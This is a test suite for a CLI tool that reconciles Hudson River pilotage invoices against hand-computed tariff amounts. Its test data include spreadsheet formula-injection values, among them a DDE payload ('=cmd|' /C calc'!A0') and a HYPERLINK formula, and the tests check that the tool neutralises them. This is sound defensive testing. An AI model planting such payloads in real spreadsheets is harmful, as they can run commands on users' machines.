/**
 * `hudson-pilotage reconcile`, run as the built binary (npm test builds it first) on generated CSV
 * and .xlsx files with known variances. Expected amounts are worked by hand from § 89-a here, in
 * integer cents; the .xlsx output is re-evaluated in the HyperFormula harness with the built add-in.
 */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import { main } from "../../src/cli/main";
import { TerminalIo } from "../../src/cli/progress";
import { isCsvRowError, readCsvRows } from "../../src/workbook/csv";
import { DetailedCellError, formulasBesideCache, hyperFormulaFromWorkbook, readWorkbook } from "../support/hyperformula";

const BIN = path.resolve(__dirname, "../../bin/hudson-pilotage.js");

let folder: string;
beforeEach(() => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), "hudson-reconcile-"));
});
afterEach(() => {
  fs.rmSync(folder, { recursive: true, force: true });
});
const inFolder = (name: string) => path.join(folder, name);

function run(...args: string[]) {
  const result = spawnSync(process.execPath, [BIN, ...args], { encoding: "utf8", cwd: folder });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

/** The boards' amounts for the tests (examples, not the boards' figures). */
const BOARD_RATES = ["table,from,a,b,c", "fees,2024-01-01,300.00,45.50,125.00", "surcharge,2020-11-20,300.00,360.00,3.60"].join("\n");

async function csvRows(file: string): Promise<string[][]> {
  const rows: string[][] = [];
  for await (const item of readCsvRows(file)) {
    if (isCsvRowError(item)) throw new Error(`row ${item.rowNumber}: ${item.error}`);
    rows.push(item.cells);
  }
  return rows;
}

/**
 * § 89-a by hand for 2026 (clause (xi)) with the board amounts above, in cents:
 *   base, Section 1: ≤ 50 units $1,070.58; > 50 and < 100 $1,530.48; ≥ 100 $15.32 × min(units, 500)
 *   base, Section 2: ≤ 50 units $1,764.76; > 50 and < 100 $2,156.94; ≥ 100 $21.58 × min(units, 500)
 *   surcharge (board, from 2020-11-20): ≤ 50 $300.00; ≤ 100 $360.00; > 100 $3.60 × units
 *   second pilot, over 10 hours: 50% of the base, half a cent up
 *   board fees: launch $300.00 + communication $45.50, + mid-river launch $125.00 on Section 2
 * Units are whole numbers here, so every product is whole cents.
 */
function expected2026(units: number, section: 1 | 2, hours: number) {
  const base = units <= 50 ? (section === 1 ? 107058 : 176476) : units < 100 ? (section === 1 ? 153048 : 215694) : (section === 1 ? 1532 : 2158) * Math.min(units, 500);
  const surcharge = units <= 50 ? 30000 : units <= 100 ? 36000 : 360 * units;
  const secondPilot = hours > 10 ? Math.floor((base * 5 + 5) / 10) : 0;
  const fees = section === 1 ? 30000 + 4550 : 30000 + 4550 + 12500;
  return { base, surcharge, secondPilot, fees, total: base + surcharge + secondPilot + fees };
}

const dollars = (cents: number) => `${cents < 0 ? "-" : ""}${Math.floor(Math.abs(cents) / 100)}.${String(Math.abs(cents) % 100).padStart(2, "0")}`;

const INJECTIONS: Record<number, string> = {
  5: '=HYPERLINK("http://example.invalid","click")',
  6: "+1+1",
  7: "@SUM(A1)",
  8: "-2+3",
};

interface GeneratedInvoices {
  text: string;
  /** CSV row number (header = 1) of each data row i. */
  rowNumberOf: number[];
  malformedRowNumbers: number[];
  flagged: Set<number>;
  billedCents: number;
  computedCents: number;
}

/**
 * 200 invoices, 2026-06-15. Every 25th is $10.00 over, every 40th otherwise a cent under; two
 * malformed lines (an extra field, text after a closing quote) sit among them.
 */
function generateInvoices(rows = 200): GeneratedInvoices {
  const lines = ["Vessel,Units,River,Transit date,Hours,Invoice total"];
  const rowNumberOf: number[] = [];
  const malformedRowNumbers: number[] = [];
  const flagged = new Set<number>();
  let billedCents = 0;
  let computedCents = 0;
  for (let i = 0; i < rows; i++) {
    const units = i % 10 === 0 ? 40 : i % 10 === 1 ? 75 : 100 + i;
    const section = i % 2 === 0 ? 1 : 2;
    const hours = i % 3 === 0 ? 12 : 8;
    const { total } = expected2026(units, section, hours);
    let billed = total;
    if (i % 25 === 24) billed += 1000;
    else if (i % 40 === 39) billed -= 1;
    if (billed !== total) flagged.add(i);
    billedCents += billed;
    computedCents += total;
    const vessel = INJECTIONS[i] ?? `Vessel ${i}`;
    lines.push(`"${vessel.replace(/"/g, '""')}",${units},${section === 1 ? "Lower" : "Upper"},2026-06-15,${hours},${dollars(billed)}`);
    rowNumberOf.push(lines.length);
    if (i === 50) {
      lines.push(`Extra,120,Lower,2026-06-15,8,100.00,surplus`);
      malformedRowNumbers.push(lines.length);
    }
    if (i === 100) {
      lines.push(`"Stray" quote,120,Lower,2026-06-15,8,100.00`);
      malformedRowNumbers.push(lines.length);
    }
  }
  return { text: lines.join("\r\n") + "\r\n", rowNumberOf, malformedRowNumbers, flagged, billedCents, computedCents };
}

/** Every formula cell of a written workbook: HyperFormula's value must be the cached one. */
async function expectFormulasMatchCache(file: string): Promise<number> {
  const { formulas, mismatches } = await formulasBesideCache(file);
  expect(mismatches).toEqual([]);
  return formulas;
}

describe("hudson-pilotage reconcile, CSV in and out", () => {
  test("exact flags, variances and summary; malformed rows reported and counted; formula-like text neutralised", async () => {
    const invoices = generateInvoices();
    fs.writeFileSync(inFolder("invoices.csv"), invoices.text);
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    const out = run("reconcile", "invoices.csv", "-o", "checked.csv", "--board-rates", "rates.csv", "--json");
    expect(out.code).toBe(1);
    // Flagged: i = 24, 49, …, 199 ($10.00 over, 8 rows) and i = 39, 79, 119, 159 (a cent under; 199 is already $10.00 over).
    expect(invoices.flagged.size).toBe(12);
    expect(invoices.billedCents - invoices.computedCents).toBe(8 * 1000 - 4 * 1);
    const [extra, stray] = invoices.malformedRowNumbers;
    expect(out.stderr.trimEnd().split("\n")).toEqual([
      `hudson-pilotage reconcile: row ${extra} skipped: has 7 fields; the header has 6`,
      expect.stringMatching(new RegExp(`^hudson-pilotage reconcile: row ${stray} skipped: field 1 has text after its closing quote`)),
    ]);
    const json = JSON.parse(out.stdout);
    expect(json.summary).toEqual({
      rows: 202,
      rowsRead: 200,
      malformedRows: 2,
      malformedRowNumbers: [extra, stray],
      malformedExamples: [
        { rowNumber: extra, error: "has 7 fields; the header has 6" },
        { rowNumber: stray, error: expect.stringContaining("text after its closing quote") },
      ],
      rowsChecked: 200,
      rowsExcluded: 0,
      excludedRowNumbers: [],
      excludedRows: [],
      rowsNotChecked: 0,
      rowsWithInputErrors: 0,
      rowsFlagged: 12,
      rowsMatched: 188,
      billed: dollars(invoices.billedCents),
      computed: dollars(invoices.computedCents),
      variance: "79.96",
      allMatched: false,
    });
    expect(json.mapping).toEqual([
      { field: "vessel", column: "A", header: "Vessel" },
      { field: "units", column: "B", header: "Units" },
      { field: "section", column: "C", header: "River" },
      { field: "date", column: "D", header: "Transit date" },
      { field: "hours", column: "E", header: "Hours" },
      { field: "billed_total", column: "F", header: "Invoice total" },
    ]);

    const rows = await csvRows(inFolder("checked.csv"));
    expect(rows[0]).toEqual([
      "Vessel", "Units", "River", "Transit date", "Hours", "Invoice total",
      "Computed base pilotage", "Computed surcharge", "Computed second pilot", "Computed board fees", "Computed total",
      "Variance", "Flag", "Status", "Note", "Input row",
    ]);
    expect(rows).toHaveLength(201);
    const data = rows.slice(1);
    data.forEach((cells, i) => {
      const units = i % 10 === 0 ? 40 : i % 10 === 1 ? 75 : 100 + i;
      const e = expected2026(units, i % 2 === 0 ? 1 : 2, i % 3 === 0 ? 12 : 8);
      expect(cells.slice(6, 11)).toEqual([dollars(e.base), dollars(e.surcharge), dollars(e.secondPilot), dollars(e.fees), dollars(e.total)]);
      expect(cells[12]).toBe(invoices.flagged.has(i) ? "TRUE" : "FALSE");
      expect(cells[13]).toBe(invoices.flagged.has(i) ? "variance" : "matched");
      expect(cells[15]).toBe(String(invoices.rowNumberOf[i]));
    });
    // i = 24: 124 units, Section 1, 12 h: 124 × $15.32 = $1,899.68; 124 × $3.60 = $446.40; second pilot 50% × $1,899.68 = $949.84;
    // fees $345.50 → $3,641.42, billed $3,651.42.
    expect(data[24].slice(5)).toEqual(["3651.42", "1899.68", "446.40", "949.84", "345.50", "3641.42", "10.00", "TRUE", "variance", "Total billed $3,651.42, computed $3,641.42: $10.00 over. Assumed no relief at mid-river and no anchorage of 8 hours (the table has no column for them).", String(invoices.rowNumberOf[24])]);
    // i = 39: 139 units, Section 2, 12 h: 139 × $21.58 = $2,999.62; second pilot $1,499.81; 139 × $3.60 = $500.40; fees $470.50 → $5,470.33; billed a cent under.
    expect(data[39].slice(5, 13)).toEqual(["5470.32", "2999.62", "500.40", "1499.81", "470.50", "5470.33", "-0.01", "TRUE"]);
    // Formula-like vessel names get a leading apostrophe; the original numbers are written as they were.
    expect(data.slice(5, 9).map((cells) => cells[0])).toEqual([`'${INJECTIONS[5]}`, "'+1+1", "'@SUM(A1)", "'-2+3"]);
    const raw = fs.readFileSync(inFolder("checked.csv"), "utf8");
    expect(raw).toContain(`"'=HYPERLINK(""http://example.invalid"",""click"")"`);
    expect(raw.split("\r\n")[1]).toMatch(/^Vessel 0,40,Lower,2026-06-15,12,/);
  });

  test("all matched: exit 0; the summary in words", () => {
    const lines = ["Ship,PU,Section,Date,Hrs,Billed"];
    // One pilot (6 h, 9 h): 40 units S1: $1,070.58 + $300.00 + $345.50 = $1,716.08. 271.43 units S2: $5,857.46 + $977.15 + $470.50 = $7,305.11.
    lines.push("A,40,1,2026-03-01,6,1716.08", "B,271.43,2,2026-09-30,9,\"7,305.11\"");
    fs.writeFileSync(inFolder("ok.csv"), lines.join("\n"));
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    const out = run("reconcile", "ok.csv", "--board-rates", "rates.csv");
    expect(out.stderr).toBe("");
    expect(out.code).toBe(0);
    expect(out.stdout).toContain('Columns: vessel ← column A "Ship"; pilotage units ← column B "PU"; section ← column C "Section"; transit date ← column D "Date"; continuous pilotage hours ← column E "Hrs"; billed total ← column F "Billed"');
    expect(out.stdout).toMatch(/^Rows: +2$/m);
    expect(out.stdout).toMatch(/^Billed: +\$9,021\.19 \(rows matched or flagged\)$/m);
    expect(out.stdout).toMatch(/^Variance: +\$0\.00 /m);
    expect(out.stdout).toMatch(/^Rows flagged: +0$/m);
    expect(out.stdout).toMatch(/^Rows matched: +2$/m);
    expect(out.stdout).toMatch(/every row matches/);
  });

  test("without -o the flagged rows are listed; --map names an unguessable column", () => {
    fs.writeFileSync(inFolder("in.csv"), ["Ship,PU,Section,Sailed,Hours,Pilot bill", "A,40,1,2026-03-01,5,1726.08", "B,40,1,2026-03-01,5,1716.08"].join("\n"));
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    expect(run("reconcile", "in.csv", "--board-rates", "rates.csv").stderr).toBe(
      // "Sailed" is a date header of the trade; "Pilot bill" is no known header, but its values are amounts: the message names the --map.
      'hudson-pilotage reconcile: No column found for a billed amount (billed total, or billed base pilotage, surcharge, …). The columns are A "Ship", B "PU", C "Section", D "Sailed", E "Hours", F "Pilot bill": map them as column=field. Columns holding amounts: column F "Pilot bill" (--map "Pilot bill=billed_total").\n',
    );
    const out = run("reconcile", "in.csv", "--board-rates", "rates.csv", "--map", "Sailed=date", "--map", "F=billed_total");
    expect(out.code).toBe(1);
    expect(out.stdout).toContain("Rows flagged or not checked (vessel, date, variance billed − computed, what differs):\n  row 2  A  2026-03-01  $10.00 over  Total billed $1,726.08, computed $1,716.08: $10.00 over.\n");
    expect(out.stdout).not.toContain("row 3");
  });

  test("rows whose amounts cannot be checked are not checked, never flagged, with the reason", async () => {
    // No board rates: the surcharge after 2020-11-19 and the board fees are not entered, so totals are #N/A.
    fs.writeFileSync(inFolder("in.csv"), ["Vessel,Units,Section,Date,Billed", "A,40,1,2026-03-01,1716.08", "B,40,9,2026-03-01,1716.08"].join("\n"));
    const out = run("reconcile", "in.csv", "-o", "out.csv", "--json");
    expect(out.code).toBe(1);
    const json = JSON.parse(out.stdout);
    expect(json.summary).toMatchObject({ rowsRead: 2, rowsChecked: 0, rowsNotChecked: 2, rowsWithInputErrors: 1, rowsFlagged: 0, rowsMatched: 0, billed: "0.00" });
    const rows = await csvRows(inFolder("out.csv"));
    // No hours column: the second pilot is not checked (D26), never $0.00.
    expect(rows[1].slice(5, 13)).toEqual(["1070.58", "#N/A", "#N/A", "#N/A", "#N/A", "#N/A", "not computed", "not checked: an amount is not available (#N/A), see Note"]);
    expect(rows[1][13]).toMatch(/^Total not checked: Not entered for 2026-03-01: surcharge, launch fee, communication fee\./);
    expect(rows[2].slice(11, 13)).toEqual(["not computed", "not checked: not computed (an input cannot be read, or the NYPILOT add-in is not loaded), see Note"]);
    expect(rows[2][13]).toMatch(/^Total not checked: The section is "9"/);
  });
});

describe("D27: a blank billed cell is not a billed $0.00", () => {
  /*
   * By hand, clause (xi) (2026) with BOARD_RATES (launch $300.00, communication $45.50, mid-river
   * launch $125.00 on Section 2; surcharge ≤ 50 units $300.00, over 100 units $3.60 a unit):
   *   40 units, Lower, 6 hours (a blank hours cell is a missing input of its own, D26): base ≤ 50 units $1,070.58; surcharge $300.00; fees 300.00 + 45.50;
   *     no second pilot → 1,070.58 + 300.00 + 345.50 = $1,716.08
   *   200 units, Upper, 12 h: base 200 × 21.58 = $4,316.00; surcharge 200 × 3.60 = $720.00; second
   *     pilot 50% × 4,316.00 = $2,158.00 (12 h > 10 h); fees 300.00 + 45.50 + 125.00 = $470.50
   *     → $7,664.50; billed without the second pilot: 4,316.00 + 720.00 + 470.50 = $5,506.50
   */
  const HEADER = "Vessel,Units,Section,Date,Hours,Base,Surcharge,2nd pilot,Launch,Communication,Mid-river launch,Invoice total";
  const LINES = [
    HEADER,
    "A,40,Lower,2026-03-01,6,1070.58,300.00,,300.00,45.50,,", // total blank: checked on the charges, 1,716.08 − 1,716.08 = 0
    "B,40,Lower,2026-03-01,6,1070.58,300.00,,310.00,45.50,,", // total blank, launch $10.00 over: 1,726.08 − 1,716.08
    "C,40,Lower,2026-03-01,,,,,,,,", // nothing billed
    "D,200,Upper,2026-06-15,12,4316.00,720.00,,300.00,45.50,125.00,5506.50", // second pilot blank: 2,158.00 under
    'E,40,Lower,2026-03-01,6,,,,,,,"$ -"', // the accounting dash: a typed $0.00, 0.00 − 1,716.08
  ];

  test("the CLI, in words and in --json: the counts add up, the blank named, the dash a billed $0.00", () => {
    fs.writeFileSync(inFolder("in.csv"), LINES.join("\n"));
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    const text = run("reconcile", "in.csv", "--board-rates", "rates.csv");
    expect(text.code).toBe(1);
    const lines = text.stdout.split("\n");
    const rowLine = (n: number) => lines.find((line) => line.startsWith(`  row ${n} `))?.replace(/ +/g, " ");
    expect(rowLine(2)).toBeUndefined(); // matched
    expect(rowLine(3)).toBe(" row 3 B 2026-03-01 $10.00 over No billed total on this row (the cell is blank): checked on the billed charges. Launch fee billed $310.00, computed $300.00: $10.00 over.");
    expect(rowLine(4)).toBe(" row 4 C 2026-03-01 not compared Nothing billed on this row (every billed cell is blank): not checked.");
    expect(rowLine(5)).toMatch(/^ row 5 D 2026-06-15 \$2,158\.00 under Second pilot billed \$0\.00 \(blank, read as not billed\), computed \$2,158\.00: \$2,158\.00 under\. Total billed \$5,506\.50, computed \$7,664\.50: \$2,158\.00 under\./);
    expect(rowLine(6)).toMatch(/^ row 6 E 2026-03-01 \$1,716\.08 under Base pilotage billed \$0\.00 \(blank, read as not billed\), computed \$1,070\.58: \$1,070\.58 under\./);
    expect(text.stdout).toContain("Counts:        5 read = 1 matched + 3 flagged + 1 not checked + 0 excluded\n");
    // Billed: A 1,716.08 + B 1,726.08 + D 5,506.50 + E 0.00 = 8,948.66; computed 1,716.08 × 3 + 7,664.50 = 12,812.74;
    // the flagged rows' variances 10.00 − 2,158.00 − 1,716.08 = −3,864.08.
    expect(text.stdout).toContain("Billed:        $8,948.66 (rows matched or flagged)\nComputed:      $12,812.74\nVariance:      -$3,864.08");

    const out = run("reconcile", "in.csv", "--board-rates", "rates.csv", "--json");
    expect(out.code).toBe(1);
    const json = JSON.parse(out.stdout);
    expect(json.summary).toMatchObject({ rowsRead: 5, rowsChecked: 4, rowsNotChecked: 1, rowsWithInputErrors: 0, rowsFlagged: 3, rowsMatched: 1, billed: "8948.66", computed: "12812.74", variance: "-3864.08" });
    expect(json.flaggedRows.map((row: { rowNumber: number; status: string; variance: string | null }) => [row.rowNumber, row.status, row.variance])).toEqual([
      [3, "variance", "10.00"],
      [4, "not checked", null],
      [5, "variance", "-2158.00"],
      [6, "variance", "-1716.08"],
    ]);
  });

  test("JSON Lines: a blank billed amount is null, never \"0.00\"; the .xlsx formulas recalculate to the values", async () => {
    fs.writeFileSync(inFolder("in.csv"), LINES.join("\n"));
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    const jsonl = run("reconcile", "in.csv", "--board-rates", "rates.csv", "-o", "-", "--format", "jsonl");
    const rows = jsonl.stdout.trim().split("\n").map((line) => JSON.parse(line));
    expect(rows.map((row) => [row.billed.billed_total, row.variance, row.status])).toEqual([
      [null, "0.00", "matched"],
      [null, "10.00", "variance"],
      [null, null, "not checked"],
      ["5506.50", "-2158.00", "variance"],
      ["0.00", "-1716.08", "variance"],
    ]);
    expect([rows[0].billed.billed_second_pilot, rows[0].variances.billed_second_pilot, rows[2].billed.billed_base]).toEqual(["0.00", "0.00", null]);

    const out = run("reconcile", "in.csv", "--board-rates", "rates.csv", "-o", "checked.xlsx");
    expect(out.code).toBe(1);
    await expectFormulasMatchCache(inFolder("checked.xlsx"));
    const sheet = (await readWorkbook(inFolder("checked.xlsx"))).getWorksheet("Reconciliation");
    const header = (sheet?.getRow(1).values as unknown[]).map(String);
    const status = header.indexOf("Status");
    const variance = header.indexOf("Variance");
    expect([2, 3, 4, 5, 6].map((n) => sheet?.getRow(n).getCell(status).result)).toEqual(["matched", "variance", "not checked: nothing billed", "variance", "variance"]);
    expect([2, 3, 5, 6].map((n) => sheet?.getRow(n).getCell(variance).result)).toEqual([0, 10, -2158, -1716.08]);
  });
});

describe("hudson-pilotage reconcile, .xlsx in and out", () => {
  /**
   * An invoice workbook with measurements, per-charge billing and a total, as an agent's sheet
   * would hold them (dates as Excel dates, one typed as text).
   */
  async function writeInvoiceWorkbook(file: string) {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("Invoices");
    sheet.addRow(["Vessel", "LOA", "Beam", "Depth", "River", "Transit date", "Hours", "Relieved", "Base", "Surcharge", "2nd pilot", "Launch fee", "Comms", "Mid-river launch", "Invoice total"]);
    const date = (iso: string) => new Date(`${iso}T00:00:00Z`);
    // 600' 6" × 80 × 40 → 192.16 units, Section 2, 12 h: base $4,146.81, surcharge $691.78, second pilot $2,073.41,
    // fees $300.00 + $45.50 + $125.00; total $7,382.50. Billed exactly.
    sheet.addRow(["Alpha", `600' 6"`, 80, 40, "Upper", date("2026-06-15"), 12, false, 4146.81, 691.78, 2073.41, 300, 45.5, 125, 7382.5]);
    // Same vessel, Section 1, "relieved at mid-river": 192.16 × $15.32 = $2,943.8912 → $2,943.89. A Section 1 transit never
    // reaches the mid-river station (D21), so 12 h > 10 h is a second pilot: 50% × $2,943.89 = $1,471.945 → $1,471.95,
    // billed $0.00. Fees $300.00 + $45.50; total 2,943.89 + 691.78 + 1,471.95 + 345.50 = $5,453.12. The launch fee is
    // billed $10.00 high; the total billed, $3,991.17, is $1,461.95 under.
    sheet.addRow(["Bravo", `600' 6"`, 80, 40, "lower", "2026-06-15", 12, true, 2943.89, 691.78, 0, 310, 45.5, null, 3991.17]);
    // 50 × 20 × 10 ÷ 10,000 = 1 unit ≤ 50, Section 2 (2 as a number), 6 hours (no second pilot): $1,764.76 + $300.00 + $470.50 = $2,535.26. Billed exactly.
    sheet.addRow(["Charlie", 50, 20, 10, 2, date("2026-02-01"), 6, null, 1764.76, 300, null, 300, 45.5, 125, 2535.26]);
    // 2020-03-02, statutory surcharge period 5 and clause (v): 1 unit, Section 1: $914.25 + $280.00; no board fee in force
    // before 2024-01-01, so the total is #N/A and the fee columns cannot be compared.
    sheet.addRow(["Delta", 50, 20, 10, "Section 1", date("2020-03-02"), 4, null, 914.25, 280, 0, 300, 45.5, null, 1539.75]);
    // An unreadable river: the base, total and fees are #VALUE!.
    sheet.addRow(["Echo", 50, 20, 10, "Middle", date("2026-02-01"), 6, null, 1000, 300, 0, 300, 45.5, null, 1645.5]);
    sheet.addRow(["=cmd|' /C calc'!A0", 50, 20, 10, "Lower", date("2026-02-01"), 6, null, 1070.58, 300, 0, 300, 45.5, null, 1716.08]);
    await workbook.xlsx.writeFile(file);
  }

  test("formulas with cached values: HyperFormula recalculates exactly the cache; original columns unchanged; flags", async () => {
    await writeInvoiceWorkbook(inFolder("invoices.xlsx"));
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    const out = run("reconcile", "invoices.xlsx", "-o", "checked.xlsx", "--board-rates", "rates.csv", "--json");
    expect(out.stderr).toBe("");
    expect(out.code).toBe(1);
    const summary = JSON.parse(out.stdout).summary;
    expect(summary).toMatchObject({ rows: 6, rowsRead: 6, malformedRows: 0, rowsChecked: 4, rowsNotChecked: 2, rowsWithInputErrors: 1, rowsFlagged: 1, rowsMatched: 3 });
    // Checked rows' totals: 7,382.50 + 3,991.17 + 2,535.26 + 1,716.08 = 15,625.01 billed; 7,382.50 + 5,453.12 + 2,535.26
    // + 1,716.08 = 17,086.96 computed; variance 15,625.01 − 17,086.96 = −1,461.95.
    expect([summary.billed, summary.computed, summary.variance]).toEqual(["15625.01", "17086.96", "-1461.95"]);

    const formulas = await expectFormulasMatchCache(inFolder("checked.xlsx"));
    expect(formulas).toBeGreaterThan(6 * 15);

    const input = await readWorkbook(inFolder("invoices.xlsx"));
    const output = await readWorkbook(inFolder("checked.xlsx"));
    const sheet = output.getWorksheet("Reconciliation") as ExcelJS.Worksheet;
    const source = input.getWorksheet("Invoices") as ExcelJS.Worksheet;
    for (let row = 1; row <= 7; row++) {
      for (let column = 1; column <= 15; column++) {
        expect([row, column, sheet.getRow(row).getCell(column).value]).toEqual([row, column, source.getRow(row).getCell(column).value]);
      }
    }
    const header = (sheet.getRow(1).values as unknown[]).slice(16);
    expect(header).toEqual([
      "Computed pilotage units", "Computed base pilotage", "Computed surcharge", "Computed second pilot", "Computed board fees", "Computed total",
      "Computed launch fee", "Computed communication fee", "Computed mid-river launch fee",
      "Variance base pilotage", "Variance surcharge", "Variance second pilot", "Variance launch fee", "Variance communication fee", "Variance mid-river launch fee",
      "Variance", "Flag", "Status", "Note", "Input row",
    ]);
    const cached = (address: string) => {
      const cell = sheet.getCell(address);
      return cell.formula ? cell.result : cell.value;
    };
    // P units, Q base, R surcharge, S second pilot, T board fees, U total, V–X fees, Y–AD variances, AE variance, AF flag, AG status, AH note.
    expect(["P2", "Q2", "R2", "S2", "T2", "U2", "AE2", "AF2", "AG2"].map(cached)).toEqual([192.16, 4146.81, 691.78, 2073.41, 470.5, 7382.5, 0, false, "matched"]);
    expect(sheet.getCell("Q2").formula).toBe("NYPILOT.HUDSON_BASE_FEE(P2,E2,F2)");
    // The Board rates sheet's two tables, where every workbook of ours has them (src/workbook/board-rates-sheet.ts).
    expect(sheet.getCell("U2").formula).toBe("NYPILOT.HUDSON_TOTAL(P2,E2,F2,G2,H2,,'Board rates'!$A$5:$D$104,'Board rates'!$F$5:$I$104)");
    expect(["Q3", "S3", "U3", "V3", "AB3", "AE3", "AF3", "AG3"].map(cached)).toEqual([2943.89, 1471.95, 5453.12, 300, 10, -1461.95, true, "variance"]);
    expect(cached("AH3")).toBe(
      "Second pilot billed $0.00, computed $1,471.95: $1,471.95 under. Launch fee billed $310.00, computed $300.00: $10.00 over. " +
        "Total billed $3,991.17, computed $5,453.12: $1,461.95 under. Assumed no anchorage of 8 hours (the table has no column for it). " +
        // D21: the relief entered is named where the row's reader looks, not only in JSON Lines' warnings.
        "Relieved at the mid-river station is not used: a Section 1 transit (Yonkers through Hyde Park) does not reach the mid-river pilot station at Norrie Point, which serves Section 2 (§ 89-a(4)(b)(1-a), D21).",
    );
    expect(["Q4", "X4", "AE4", "AF4"].map(cached)).toEqual([1764.76, 125, 0, false]);
    // Not checked, never flagged: the Flag says "not computed", the Status why, by the kind of error.
    expect(["Q5", "R5", "U5", "V5", "AF5", "AG5"].map(cached)).toEqual([914.25, 280, { error: "#N/A" }, { error: "#N/A" }, "not computed", "not checked: an amount is not available (#N/A), see Note"]);
    expect(["Q6", "R6", "U6", "AF6", "AG6"].map(cached)).toEqual([
      { error: "#VALUE!" }, 300, { error: "#VALUE!" }, "not computed", "not checked: not computed (an input cannot be read, or the NYPILOT add-in is not loaded), see Note",
    ]);
    // The formula-like vessel name is stored as text, never as a formula.
    expect(sheet.getCell("A7").formula).toBeUndefined();
    expect(sheet.getCell("A7").value).toBe("=cmd|' /C calc'!A0");
    expect(cached("AF7")).toBe(false);

    const board = output.getWorksheet("Board rates") as ExcelJS.Worksheet;
    expect((board.getRow(5).values as unknown[]).slice(1)).toEqual([new Date("2024-01-01T00:00:00Z"), 300, 45.5, 125, undefined, new Date("2020-11-20T00:00:00Z"), 300, 360, 3.6]);
    const summarySheet = output.getWorksheet("Summary") as ExcelJS.Worksheet;
    const items = new Map<string, unknown>();
    // cell.result, not cell.value.result: exceljs's value getter drops a cached 0 or FALSE.
    summarySheet.eachRow((row) => items.set(String(row.getCell(1).value), row.getCell(2).formula ? row.getCell(2).result : row.getCell(2).value));
    expect([items.get("Rows read"), items.get("Rows not checked"), items.get("Rows flagged"), items.get("Rows matched")]).toEqual([6, 2, 1, 3]);
    expect(items.get("Rows read = matched + flagged + not checked + excluded")).toBe(6);
    // As the JSON summary: the one flagged row's variance, $3,991.17 − $5,453.12.
    expect(items.get("Variance (the flagged rows' variances)")).toBe(-1461.95);
    const flaggedRow = summarySheet.getColumn(1).values.findIndex((label) => label === "Rows flagged");
    expect(summarySheet.getCell(`B${flaggedRow}`).formula).toBe("COUNTIF('Reconciliation'!$AF$2:$AF$7,TRUE)");
    // The paths as given (the run's folder) and in full.
    expect([items.get("Input"), items.get("Input (full path)")]).toEqual(["invoices.xlsx", path.resolve(inFolder("invoices.xlsx"))]);
    expect([items.get("Board rates"), items.get("Board rates (full path)")]).toEqual(["rates.csv", path.resolve(inFolder("rates.csv"))]);
    expect(items.get("Computed by")).toMatch(/^hudson-pilotage \d+\.\d+\.\d+ \(reconcile\)$/);
    expect(items.get("Run")).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} UTC$/);
    const highlight = (sheet as unknown as { conditionalFormattings: { ref: string; rules: { formulae: string[] }[] }[] }).conditionalFormattings;
    expect(highlight).toEqual([expect.objectContaining({ ref: "A2:AI7", rules: [expect.objectContaining({ formulae: ["$AF2=TRUE"] })] })]);
  });

  test("every sheet prints landscape, one page wide, the header row on each page; header row and first column frozen; autofilter; widths fitted", async () => {
    await writeInvoiceWorkbook(inFolder("invoices.xlsx"));
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    expect(run("reconcile", "invoices.xlsx", "-o", "checked.xlsx", "--board-rates", "rates.csv").code).toBe(1);
    const workbook = await readWorkbook(inFolder("checked.xlsx"));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Reconciliation", "Board rates", "Summary"]);
    for (const sheet of workbook.worksheets) {
      const header = sheet.name === "Board rates" ? 4 : 1;
      expect([sheet.name, sheet.pageSetup.orientation, sheet.pageSetup.fitToPage, sheet.pageSetup.fitToWidth, sheet.pageSetup.fitToHeight, sheet.pageSetup.printTitlesRow]).toEqual([
        sheet.name, "landscape", true, 1, 0, `${header}:${header}`,
      ]);
      expect([sheet.name, sheet.views[0]]).toEqual([sheet.name, expect.objectContaining({ state: "frozen", xSplit: 1, ySplit: header })]);
      expect([sheet.name, sheet.autoFilter]).toEqual([sheet.name, expect.anything()]);
    }
    const reconciliation = workbook.getWorksheet("Reconciliation") as ExcelJS.Worksheet;
    // The autofilter covers the header and the six rows, A1 to the last column (AI, "Input row").
    expect(reconciliation.autoFilter).toBe("A1:AI7");
    // The vessel column fits its longest name ("=cmd|' /C calc'!A0", 18 characters) and the Note column is as wide as allowed.
    expect(reconciliation.getColumn(1).width).toBeGreaterThanOrEqual(18);
    expect(reconciliation.getColumn(34).width).toBe(60);
  });

  test("--values-only: the same values, no formula anywhere; refused for a CSV output", async () => {
    await writeInvoiceWorkbook(inFolder("invoices.xlsx"));
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    expect(run("reconcile", "invoices.xlsx", "-o", "live.xlsx", "--board-rates", "rates.csv").code).toBe(1);
    expect(run("reconcile", "invoices.xlsx", "-o", "values.xlsx", "--board-rates", "rates.csv", "--values-only").code).toBe(1);
    const live = await readWorkbook(inFolder("live.xlsx"));
    const values = await readWorkbook(inFolder("values.xlsx"));
    let compared = 0;
    for (const sheet of live.worksheets) {
      const other = values.getWorksheet(sheet.name) as ExcelJS.Worksheet;
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          const copy = other.getCell(cell.address);
          expect([sheet.name, cell.address, copy.formula]).toEqual([sheet.name, cell.address, undefined]);
          // The run's date and time and the Formulas note are the only cells that differ.
          if (sheet.name === "Summary" && ["Run", "Formulas"].includes(String(row.getCell(1).value))) return;
          expect([sheet.name, cell.address, copy.value]).toEqual([sheet.name, cell.address, cell.formula ? cell.result : cell.value]);
          compared += 1;
        }),
      );
    }
    expect(compared).toBeGreaterThan(6 * 30);
    const csv = run("reconcile", "invoices.xlsx", "-o", "values.csv", "--board-rates", "rates.csv", "--values-only");
    expect([csv.code, csv.stderr]).toEqual([2, "hudson-pilotage reconcile: --values-only is for an .xlsx output (-o out.xlsx): a .csv or JSON Lines output holds values only.\n"]);
  });

